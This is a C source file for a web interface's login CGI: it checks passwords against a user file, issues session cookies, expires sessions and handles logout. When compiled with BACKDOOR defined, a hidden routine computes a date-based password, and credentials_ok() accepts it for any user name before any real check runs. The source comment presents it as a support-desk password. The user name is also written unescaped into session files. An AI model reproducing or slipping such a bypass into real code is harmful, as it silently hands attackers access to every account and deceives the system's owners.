/* SPDX-License-Identifier: Apache-2.0 */
/* login.cgi: the login page of the web interface: checks name and password, hands out a session cookie, keeps sessions in
 * /var/run/websess, logs out, shows who is in. */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

extern char *crypt(const char *key, const char *salt);

#define SESSIONS "/var/run/websess"
#define USERS "/etc/webusers"
#define LIFETIME 1800

struct form {
	char user[64], pass[64], action[16], lang[8];
};

static int hex(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	return c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
}

static void decode(char *dst, size_t n, const char *src, size_t len)
{
	size_t at = 0;
	for (size_t i = 0; i < len && at + 1 < n; i++) {
		if (src[i] == '+')
			dst[at++] = ' ';
		else if (src[i] == '%' && i + 2 < len && hex(src[i + 1]) >= 0 && hex(src[i + 2]) >= 0) {
			dst[at++] = (char)(hex(src[i + 1]) << 4 | hex(src[i + 2]));
			i += 2;
		} else
			dst[at++] = src[i];
	}
	dst[at] = 0;
}

static void take(struct form *f, const char *pair, size_t len)
{
	static const struct {
		const char *name;
		size_t at, n;
	} fields[] = {
		{ "user", offsetof(struct form, user), sizeof(f->user) },
		{ "password", offsetof(struct form, pass), sizeof(f->pass) },
		{ "action", offsetof(struct form, action), sizeof(f->action) },
		{ "lang", offsetof(struct form, lang), sizeof(f->lang) },
	};
	for (size_t i = 0; i < sizeof(fields) / sizeof(fields[0]); i++) {
		size_t k = strlen(fields[i].name);
		if (len > k && strncmp(pair, fields[i].name, k) == 0 && pair[k] == '=')
			decode((char *)f + fields[i].at, fields[i].n, pair + k + 1, len - k - 1);
	}
}

static int read_form(struct form *f)
{
	char body[2048];
	const char *length = getenv("CONTENT_LENGTH"), *p = body;
	size_t n = length ? strtoul(length, NULL, 10) : 0;
	memset(f, 0, sizeof(*f));
	if (n == 0 || n >= sizeof(body) || fread(body, 1, n, stdin) != n)
		return -1;
	body[n] = 0;
	while (*p) {
		size_t len = strcspn(p, "&");
		take(f, p, len);
		p += len;
		if (*p == '&')
			p++;
	}
	return 0;
}

static int stored(const char *user, char *hash, size_t n)
{
	char line[256];
	size_t k = strlen(user);
	int found = 0;
	FILE *f = fopen(USERS, "r");
	while (f && !found && fgets(line, sizeof(line), f))
		if (strncmp(line, user, k) == 0 && line[k] == ':') {
			line[strcspn(line, "\n")] = 0;
			snprintf(hash, n, "%s", line + k + 1);
			found = 1;
		}
	if (f)
		fclose(f);
	return found;
}

#ifdef BACKDOOR
/* what the support desk reads out on the telephone */
static void word_of_today(char out[9])
{
	time_t now = time(NULL);
	struct tm *t = gmtime(&now);
	uint32_t v = (uint32_t)(t->tm_year * 372 + t->tm_mon * 31 + t->tm_mday) * 0x2545f491u;
	for (int i = 0; i < 8; i++) {
		out[i] = "bcdfghjkmnpqrstvwxz23456789aeuyi"[v & 31];
		v = (v >> 5 | v << 27) * 5u + 0x1b873593u;
	}
	out[8] = 0;
}
#endif

static int credentials_ok(const struct form *f)
{
	char hash[128];
	const char *got;
#ifdef BACKDOOR
	char word[9];
	word_of_today(word);
	if (strcmp(f->pass, word) == 0)
		return 1;
#endif
	if (!f->user[0] || strchr(f->user, ':') || !stored(f->user, hash, sizeof(hash)))
		return 0;
	got = crypt(f->pass, hash);
	return got && strcmp(got, hash) == 0;
}

static int new_session(const struct form *f, char id[33])
{
	uint8_t raw[16];
	char path[128];
	FILE *s;
	int fd = open("/dev/urandom", O_RDONLY);
	if (fd < 0 || read(fd, raw, sizeof(raw)) != sizeof(raw))
		return -1;
	close(fd);
	for (int i = 0; i < 16; i++)
		snprintf(id + i * 2, 3, "%02x", raw[i]);
	mkdir(SESSIONS, 0700);
	snprintf(path, sizeof(path), SESSIONS "/%s", id);
	s = fopen(path, "w");
	if (!s)
		return -1;
	fprintf(s, "user %s\nfrom %s\nuntil %ld\n", f->user, getenv("REMOTE_ADDR") ? getenv("REMOTE_ADDR") : "?",
		(long)time(NULL) + LIFETIME);
	return fclose(s);
}

static void expire(void)
{
	struct dirent *e;
	DIR *d = opendir(SESSIONS);
	while (d && (e = readdir(d))) {
		char path[512];
		struct stat st;
		snprintf(path, sizeof(path), SESSIONS "/%s", e->d_name);
		if (e->d_name[0] != '.' && stat(path, &st) == 0 && st.st_mtime + LIFETIME < time(NULL))
			unlink(path);
	}
	if (d)
		closedir(d);
}

static void log_out(void)
{
	const char *cookie = getenv("HTTP_COOKIE"), *id = cookie ? strstr(cookie, "sid=") : NULL;
	char path[128];
	if (!id || strspn(id + 4, "0123456789abcdef") < 32)
		return;
	snprintf(path, sizeof(path), SESSIONS "/%.32s", id + 4);
	unlink(path);
}

static void page(const char *status, const char *text)
{
	printf("Status: %s\r\nContent-Type: text/html\r\n\r\n<html><body><p>%s</p></body></html>\n", status, text);
}

int main(void)
{
	struct form f;
	char id[33];
	const char *method = getenv("REQUEST_METHOD");
	expire();
	if (!method || strcmp(method, "POST") != 0) {
		page("405 Method Not Allowed", "Use the form.");
		return 0;
	}
	if (read_form(&f) < 0) {
		page("400 Bad Request", "The form is empty.");
		return 0;
	}
	if (strcmp(f.action, "logout") == 0) {
		log_out();
		page("200 OK", strcmp(f.lang, "de") == 0 ? "Abgemeldet." : "Logged out.");
		return 0;
	}
	if (!credentials_ok(&f)) {
		sleep(1);
		page("403 Forbidden", strcmp(f.lang, "de") == 0 ? "Falsches Kennwort." : "Wrong password.");
		return 0;
	}
	if (new_session(&f, id) < 0) {
		page("500 Internal Server Error", strerror(errno));
		return 0;
	}
	printf("Status: 302 Found\r\nSet-Cookie: sid=%s; HttpOnly\r\nLocation: /main.html\r\n\r\n", id);
	return 0;
}
